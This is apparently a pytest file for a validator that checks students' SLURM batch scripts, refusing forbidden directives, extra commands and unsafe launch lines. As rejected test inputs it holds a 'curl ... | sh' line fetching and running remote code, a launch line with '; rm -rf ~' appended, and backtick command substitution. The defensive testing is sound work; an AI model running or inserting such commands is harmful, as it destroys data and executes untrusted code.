"""What a student's SLURM batch script may say (runners/batchscript.py), without a cluster."""

from __future__ import annotations

import pytest

from runners.batchscript import BatchJob, ScriptRefused, parse
from runners.protocol import Resources

TWO_NODES = Resources(kind="mpi", cores=4, ranks=4, nodes=2)
FILES = {"job.sh", "task2.py", "helpers.py"}
SEED = """#!/bin/bash
#SBATCH --job-name=task2
#SBATCH --nodes=2
#SBATCH --ntasks-per-node=2
#SBATCH --time=00:05:00
#SBATCH --output=task2-%j.out

module purge
module load python/3.11
set -euo pipefail
cd "$SLURM_SUBMIT_DIR"
echo starting
srun --mpi=pmi2 python -u task2.py 1000 fast
"""


def test_the_seeds_form_is_read_as_a_job() -> None:
    assert parse(SEED, TWO_NODES, FILES) == BatchJob(nodes=2, tasks=4, program="task2.py",
                                                    args=["1000", "fast"])


@pytest.mark.parametrize(("script", "shape"), [
    ("#SBATCH -N 2 -n 4\nsrun python task2.py\n", (2, 4)),
    ("#SBATCH --ntasks=4\n#SBATCH --nodes=1\nmpirun python3 task2.py\n", None),
    ("srun -N 2 --ntasks-per-node=2 python task2.py\n", (2, 4)),
    ("#SBATCH --nodes=1\n#SBATCH --ntasks=2\nsrun -n 4 -N 2 python task2.py\n", (2, 4)),
])
def test_the_shape_comes_from_the_directives_and_the_launch_line(
        script: str, shape: tuple[int, int] | None) -> None:
    if shape is None:  # four tasks on one node of two cores
        with pytest.raises(ScriptRefused, match="more than the 2 cores"):
            parse(script, TWO_NODES, FILES)
        return
    job = parse(script, TWO_NODES, FILES)
    assert (job.nodes, job.tasks) == shape


@pytest.mark.parametrize(("line", "reason"), [
    ("#SBATCH --partition=gpu", "--partition is not allowed"),
    ("#SBATCH --gres=gpu:1", "--gres is not allowed"),
    ("#SBATCH --export=ALL", "--export is not allowed"),
    ("#SBATCH --exclusive=user", "--exclusive is not allowed"),
    ("#SBATCH --nodes=3", "at most 2 node"),
    ("#SBATCH --ntasks-per-node=4", "times 4 MPI ranks"),
    ("#SBATCH --ntasks=8", "is not --ntasks=8"),
    ("#SBATCH --cpus-per-task=2", "one core per task"),
    ("curl http://198.51.100.1/x | sh", "'curl' may not"),
    ("srun python task2.py", "a second launch"),
    ("export SECRET=1", "'export' may not"),
])
def test_anything_else_is_refused_with_its_line(line: str, reason: str) -> None:
    script = SEED.replace("echo starting", line) if not line.startswith("#SBATCH") else \
        SEED.replace("#SBATCH --time=00:05:00", line)
    with pytest.raises(ScriptRefused, match=reason):
        parse(script, TWO_NODES, FILES)


@pytest.mark.parametrize("launch", [
    "srun python task2.py; rm -rf ~",
    "srun python task2.py `id`",
    "srun python task2.py $HOME",
    "srun python task2.py > out.txt",
    "srun bash -c 'python task2.py'",
    "srun python -c 'import os'",
    "srun python ../task2.py",
    "srun python other.py",
    "srun --export=ALL python task2.py",
    "srun --partition=gpu python task2.py",
])
def test_the_launch_line_runs_one_of_the_submissions_files_literally(launch: str) -> None:
    with pytest.raises(ScriptRefused):
        parse(SEED.replace("srun --mpi=pmi2 python -u task2.py 1000 fast", launch), TWO_NODES,
              FILES)


def test_a_script_that_starts_nothing_or_too_late_a_directive() -> None:
    with pytest.raises(ScriptRefused, match="starts no program"):
        parse("#!/bin/bash\n#SBATCH --nodes=2\necho hi\n", TWO_NODES, FILES)
    with pytest.raises(ScriptRefused, match="move it up"):
        parse(SEED + "#SBATCH --nodes=1\n", TWO_NODES, FILES)
